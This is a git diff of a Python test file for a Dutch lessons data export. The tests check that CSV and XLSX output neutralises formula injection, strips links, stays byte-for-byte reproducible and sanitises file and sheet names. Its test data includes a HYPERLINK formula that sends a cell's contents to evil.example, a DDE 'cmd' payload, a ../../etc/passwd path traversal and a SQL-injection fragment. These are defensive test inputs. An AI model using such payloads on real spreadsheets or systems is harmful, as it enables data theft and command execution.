@@ -6,7 +6,7 @@ import csv
 import io
 import re
 import zipfile
-from xml.etree import ElementTree
+from collections.abc import Callable
 
 import pandas as pd
 import pytest
@@ -14,8 +14,10 @@ import pytest
 from lessons import columns, export
 from lessons.tables import tables
 from tests import sample
+from tests.downloads import about_csv, read_csv, read_xlsx
 
 ABOUT = {"Titel": "Lessen, alle", "Filters": "geen", "Licentie": "CC BY 4.0", "Link": "/lessen?zoek==1+1"}
+BESIDE = [("Bron", "Een titel, 2014", "https://bron.example/"), ("Kolom", "a", "een getal")]
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"klik")',
     "+31 70 123 45 67",
@@ -43,25 +45,6 @@ HARMLESS = [
     "regel 1\n\nregel 2",
     "x; - y is -1",
 ]
-NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-
-
-def read_csv(raw: bytes) -> pd.DataFrame:
-    return pd.read_csv(io.BytesIO(raw), comment="#", encoding="utf-8-sig", keep_default_na=False, dtype=str)
-
-
-def read_xlsx(raw: bytes, sheet: int = 1) -> list[list[str]]:
-    """The shown texts of a sheet, row by row."""
-    with zipfile.ZipFile(io.BytesIO(raw)) as book:
-        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
-        texts = ["".join(part.text or "" for part in item.iter(f"{NAMESPACE}t")) for item in shared]
-        rows = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml")).iter(f"{NAMESPACE}row")
-        return [[_shown(cell, texts) for cell in row.iter(f"{NAMESPACE}c")] for row in rows]
-
-
-def _shown(cell: ElementTree.Element, texts: list[str]) -> str:
-    value = cell.findtext(f"{NAMESPACE}v") or ""
-    return texts[int(value)].replace("_x000D_", "\r") if cell.get("t") == "s" else value
 
 
 def test_csv_gives_back_the_rows_of_the_frame() -> None:
@@ -97,7 +80,8 @@ def test_harmless_text_comes_back_letter_for_letter(text: str) -> None:
 def test_no_reader_finds_a_cell_that_begins_a_formula(delimiter: str, quotes: int) -> None:
     """Whatever sign a spreadsheet takes for the end of a cell, and whether or not it minds the quotes."""
     frame = pd.DataFrame({"=kop": pd.Series(HOSTILE, dtype="str"), "soort": pd.Categorical(["=1"] * len(HOSTILE))})
-    text = export.csv(frame, {"=naam": "=waarde", "\n=x": "a\n=b"}).decode("utf-8-sig")
+    beside = [("=soort", *HOSTILE)]
+    text = export.csv(frame, {"=naam": "=waarde", "\n=x": "a\n=b"}, beside).decode("utf-8-sig")
     for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quotes):  # type: ignore[arg-type]
         assert not [cell for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)], row
 
@@ -111,7 +95,7 @@ def test_a_formula_in_a_text_gets_a_quote_before_it(text: str) -> None:
 
 def test_xlsx_holds_no_formula_and_no_link_and_keeps_every_letter() -> None:
     frame = pd.DataFrame({"=kop": pd.Series([*HOSTILE, "https://evil.example/"], dtype="str")})
-    raw = export.xlsx(frame, {"=naam": "=waarde"})
+    raw = export.xlsx(frame, {"=naam": "=waarde"}, [("=soort", *HOSTILE)], ("=blad", "+blad"))
     with zipfile.ZipFile(io.BytesIO(raw)) as book:
         for name in book.namelist():
             assert not re.search(rb"<f[ >]|<hyperlink", book.read(name)), name
@@ -119,9 +103,68 @@ def test_xlsx_holds_no_formula_and_no_link_and_keeps_every_letter() -> None:
     assert read_xlsx(raw, sheet=2)[0] == ["=naam", "=waarde"]
 
 
-def test_xlsx_keeps_numbers_as_numbers_and_the_unknown_empty() -> None:
+def test_xlsx_keeps_numbers_and_days_as_such_and_the_unknown_empty() -> None:
+    """A day is the number that a spreadsheet counts it as, from 1900; nothing is written where nothing is known."""
     frame = tables(sample.catalogue(), "nl").series[["series", "target", "percent", "day"]]
-    assert read_xlsx(export.xlsx(frame, ABOUT))[1:] == [["jobs", "10", "2015-12-31"], ["jobs", "61", "2017-12-31"]]
+    raw = export.xlsx(frame, ABOUT)
+    assert read_xlsx(raw)[1:] == [["jobs", "10", "42369"], ["jobs", "61", "43100"]]
+    assert b"yyyy-mm-dd" in part(raw, "xl/styles.xml")
+
+
+def test_a_day_before_the_count_of_a_spreadsheet_stays_a_text() -> None:
+    frame = pd.DataFrame({"day": pd.Series(["1815-06-18", None], dtype="datetime64[us]")})
+    assert read_xlsx(export.xlsx(frame, {})) == [["day"], ["1815-06-18"]]
+
+
+def part(raw: bytes, name: str) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(raw)) as book:
+        return book.read(name)
+
+
+def test_xlsx_keeps_its_head_in_sight_filters_and_prints_wide_with_the_head_on_every_page() -> None:
+    raw = export.xlsx(tables(sample.catalogue(), "nl").judgements, ABOUT)
+    sheet = part(raw, "xl/worksheets/sheet1.xml").decode()
+    assert 'state="frozen"' in sheet
+    assert "<autoFilter" in sheet
+    assert 'orientation="landscape"' in sheet
+    assert 'fitToHeight="0"' in sheet
+    assert b"_xlnm.Print_Titles" in part(raw, "xl/workbook.xml")
+
+
+def test_xlsx_has_its_title_and_no_name_of_a_person_and_no_moment() -> None:
+    core = part(export.xlsx(pd.DataFrame({"a": [1]}), ABOUT), "docProps/core.xml").decode()
+    assert "<dc:title>Lessen, alle</dc:title>" in core
+    assert "<dc:creator></dc:creator>" in core
+    assert set(re.findall(r"\d{4}-\d\d-\d\d", core)) == {"1980-01-01"}
+
+
+@pytest.mark.parametrize("make", [export.csv, export.xlsx])
+def test_the_same_rows_give_the_same_bytes(make: Callable[..., bytes], monkeypatch: pytest.MonkeyPatch) -> None:
+    frame = tables(sample.catalogue(), "nl").judgements
+    first = make(frame, ABOUT, BESIDE)
+    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
+    assert make(frame, ABOUT, BESIDE) == first
+
+
+def test_what_stands_beside_the_rows_is_in_both_files() -> None:
+    frame = pd.DataFrame({"a": [1]})
+    told = [*map(list, ABOUT.items()), *map(list, BESIDE)]
+    assert about_csv(export.csv(frame, ABOUT, BESIDE)) == [[*told[0]], *told[1:]]
+    assert read_xlsx(export.xlsx(frame, ABOUT, BESIDE), sheet=2) == told
+
+
+@pytest.mark.parametrize(("name", "safe"), [
+    ("vakken", "vakken.csv"), ("=cmd|' /C calc'!A0", "cmd-C-calc-A0.csv"), ("../../etc/passwd", "etc-passwd.csv"),
+    ("a\nb", "a-b.csv"), ("", "data.csv"), ("@é", "data.csv"),
+])  # fmt: skip
+def test_a_file_name_is_only_a_name(name: str, safe: str) -> None:
+    assert export.file_name(name, "csv") == safe
+
+
+@pytest.mark.parametrize("name", ["=1+1", "'; DROP", "a/b:c*d?e[f]", "x" * 60, "", "History\n"])
+def test_a_sheet_takes_any_name(name: str) -> None:
+    raw = export.xlsx(pd.DataFrame({"a": [1]}), {}, (), (name, "about"))
+    assert read_xlsx(raw) == [["a"], ["1"]]
 
 
 @pytest.mark.parametrize("name", ["lessons", "judgements", "series", "links", "problems"])
